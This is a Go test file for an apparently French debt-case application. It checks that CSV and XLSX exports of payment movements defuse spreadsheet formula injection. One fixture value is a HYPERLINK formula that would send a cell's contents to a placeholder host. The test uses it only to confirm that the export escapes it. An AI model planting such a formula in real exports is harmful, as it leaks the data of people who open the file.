package data

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"amiable/debt"
)

func TestCSVExportDefusesFormulas(t *testing.T) {
	s := openTest(t)
	ctx := context.Background()
	c := newCase(t, s, "Martin")
	evil := `=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez")`
	for _, ref := range []string{evil, "+33 6 12 34 56 78", "@SUM(A1:A9)", "-2+3", "VIR 42"} {
		if _, err := s.RecordPayment(ctx, c.ID, PaymentInput{Received: debt.MustDate("2026-03-05"), Amount: 1000, Method: MethodTransfer, BankRef: ref}, "test", day("2026-03-05")); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := s.RecordRemittance(ctx, c.Creditor.ID, debt.MustDate("2026-03-06"), 2000, "VIR-CARPA-1", "test", day("2026-03-06")); err != nil {
		t.Fatal(err)
	}
	ms, err := s.Movements(ctx, debt.MustDate("2026-03-01"), debt.MustDate("2026-03-31"))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := WriteMovementsCSV(&buf, ms); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff")))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	refs := map[string]bool{}
	for _, row := range rows[1:] {
		refs[row[8]] = true
		for i, cell := range row {
			if i == 5 || i == 6 {
				continue
			}
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s starts a formula: %q", MovementColumns[i], cell)
			}
		}
		// Amounts stay numbers: money out keeps its minus sign.
		if row[1] == "reversement" && (row[5] != "-20,00" || row[6] != "-2000") {
			t.Errorf("remittance amounts = %q, %q; want -20,00 and -2000", row[5], row[6])
		}
	}
	for _, want := range []string{"'" + evil, "'+33 6 12 34 56 78", "'@SUM(A1:A9)", "'-2+3", "VIR 42"} {
		if !refs[want] {
			t.Errorf("CSV lacks reference %q: %v", want, refs)
		}
	}
	// XLSX cells are typed: the reference is a string, not a formula.
	buf.Reset()
	if err := WriteMovementsXLSX(&buf, ms); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	for row := 2; row <= len(ms)+1; row++ {
		cell, _ := excelize.CoordinatesToCellName(9, row)
		if fm, _ := f.GetCellFormula("Mouvements", cell); fm != "" {
			t.Errorf("XLSX %s holds a formula %q", cell, fm)
		}
	}
}
